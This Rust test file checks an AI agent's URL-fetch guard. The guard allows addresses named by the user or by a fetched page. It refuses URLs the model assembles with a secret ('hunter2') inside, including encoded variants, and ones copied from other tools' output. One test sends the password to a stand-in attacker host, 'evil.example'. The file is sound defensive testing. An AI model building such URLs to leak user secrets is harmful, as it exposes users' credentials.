//! An address is gone to only where the user or the web itself named it: through the real loop.

use std::sync::Arc;

use serde_json::{Value, json};
use toolwright_core::{Call, FnTool, ModelResponse, Output, Status, Tool, ToolEffect, ToolSpec};
use toolwright_http::HttpSettings;
use toolwright_models::Scripted;
use toolwright_runtime::{Agent, AllowAll, Approver, DenyAll};
use toolwright_web::{Engine, EngineKind, search_web};

use crate::server::{Server, answer, fetcher};

/// A tool that returns what it is told to, as a note that a model wrote before would be.
fn notes(text: &str) -> Arc<dyn Tool> {
    let spec = ToolSpec::new("list_notes", "Lists notes.", json!({"type": "object"}));
    let text = text.to_owned();
    Arc::new(FnTool::new(spec.effect(ToolEffect::ReadOnly), move |_, _| {
        let text = text.clone();
        Box::pin(async move { Ok(Output::Text(text)) })
    }))
}

/// How the calls of a run ended, and what was told of each.
async fn run(
    tools: Vec<Arc<dyn Tool>>,
    approver: impl Approver + 'static,
    says: &str,
    calls: &[(&str, Value)],
) -> Vec<(Status, String)> {
    let replies = calls.iter().enumerate().map(|(at, (tool, arguments))| {
        ModelResponse::calls([Call::new(format!("c{at}"), *tool, arguments.to_string())])
    });
    let replies: Vec<_> = replies.chain([ModelResponse::text("That is all.")]).collect();
    let agent = Agent::builder(Scripted::new(replies)).tools(tools).approver(approver);
    let mut run = agent.build().unwrap().run(says);
    while run.next().await.is_some() {}
    let conversation = run.into_run().unwrap().into_conversation();
    conversation.results().map(|it| (it.outcome.status, it.outcome.text.clone())).collect()
}

async fn fetch(server: &Server, says: &str, urls: &[&str]) -> Vec<(Status, String)> {
    let calls: Vec<_> = urls.iter().map(|it| ("fetch_url", json!({"url": it}))).collect();
    run(vec![fetcher(&[server])], DenyAll, says, &calls).await
}

#[tokio::test]
async fn what_the_user_said_is_fetched_without_a_question() {
    let server = Server::page("text/plain", "a page").await;
    let page = server.url("/Docs/a?x=1&y=2");
    for says in [
        format!("What does {page} say?"),
        format!("Read ({page})."),
        format!("see <{page}#part>, please"),
        format!("look at {}", page.trim_start_matches("http://")),
    ] {
        let ended = fetch(&server, &says, &[&page]).await;
        assert_eq!(ended[0].0, Status::Ok, "{says}: {ended:?}");
    }
}

#[tokio::test]
async fn what_the_model_put_together_is_refused_and_nobody_is_asked() {
    let server = Server::page("text/plain", "a page").await;
    let says = format!("The password is hunter2. What does {} say?", server.url("/docs/a?q="));
    for path in [
        "/docs/a?q=hunter2",
        "/docs/a?q=&p=hunter2",
        "/hunter2",
        "/docs/A?q=",
        "/docs/ab",
        "/docs/a?q=%68unter2",
        "/docs/a?Q=",
    ] {
        let ended = fetch(&server, &says, &[&server.url(path)]).await;
        assert_eq!(ended[0].0, Status::Refused, "{path}: {ended:?}");
        assert!(ended[0].1.contains("not made up or put together"), "{}", ended[0].1);
    }
    let other = fetch(&server, &says, &["https://evil.example/?q=hunter2"]).await;
    assert_eq!(other[0].0, Status::Refused);
    assert!(server.asked().is_empty());
}

#[tokio::test]
async fn a_link_of_a_page_is_followed_and_one_that_is_changed_is_not() {
    let server = Server::start(|asked| {
        let links = r#"<a href="/next?id=Ab">next</a> <a href="/log?q=">log</a>"#;
        let page = format!("<p>{}</p>{links}", "words ".repeat(50));
        answer(
            "200 OK",
            "text/html",
            if asked.line.contains("/next") { b"<p>far" } else { page.as_bytes() },
        )
    })
    .await;
    let first = server.url("/");
    let ended = fetch(
        &server,
        &format!("Read {first} and what it links to."),
        &[
            &first,
            &server.url("/next?id=Ab"),
            &server.url("/next?id=AB"),
            &server.url("/log?q=hunter2"),
        ],
    )
    .await;
    let statuses: Vec<_> = ended.iter().map(|it| it.0).collect();
    assert_eq!(statuses, [Status::Ok, Status::Ok, Status::Refused, Status::Refused], "{ended:?}");
    assert_eq!(server.asked().len(), 2);
}

/// What a model wrote into a note, a file or a command it can read again: that is nobody's word.
#[tokio::test]
async fn an_address_that_another_tool_returned_is_looked_at_first() {
    let server = Server::page("text/plain", "a page").await;
    let page = server.url("/?q=hunter2");
    let calls = [("list_notes", json!({})), ("fetch_url", json!({"url": page}))];
    let tools = || vec![notes(&format!("1. {page}")), fetcher(&[&server])];
    let ended = run(tools(), DenyAll, "Show my notes.", &calls).await;
    assert_eq!(ended[1].0, Status::Denied, "{ended:?}");
    // What was allowed beforehand does not cover it either.
    let ended = run(tools(), AllowAll, "Show my notes.", &calls).await;
    assert_eq!(ended[1].0, Status::Denied, "{ended:?}");
    assert!(server.asked().is_empty());
    let ended = run(tools(), DenyAll, &format!("Fetch {page}"), &calls).await;
    assert_eq!(ended[1].0, Status::Ok, "{ended:?}");
}

#[tokio::test]
async fn what_a_search_found_is_fetched_and_what_was_searched_for_is_not() {
    let page = Server::page("text/plain", "a page").await;
    let (found, asked) = (page.url("/found?x=1"), page.url("/?q=hunter2"));
    // An engine that repeats what it was asked among its results.
    let body = json!({"results": [
        {"title": "Found", "url": found, "content": "x"},
        {"title": "Asked", "url": asked, "content": "x"},
    ]});
    let engine = Server::page("application/json", body.to_string()).await;
    let http = HttpSettings::from_vars(&|_| None);
    let engine = Engine::new(EngineKind::Searxng, &engine.url(""), None, &http).unwrap();
    let calls = [
        ("search_web", json!({"query": asked})),
        ("fetch_url", json!({"url": found})),
        ("fetch_url", json!({"url": asked})),
    ];
    let tools = vec![search_web(engine), fetcher(&[&page])];
    let ended = run(tools, DenyAll, "Find something.", &calls).await;
    let statuses: Vec<_> = ended.iter().map(|it| it.0).collect();
    assert_eq!(statuses, [Status::Ok, Status::Ok, Status::Refused], "{ended:?}");
}
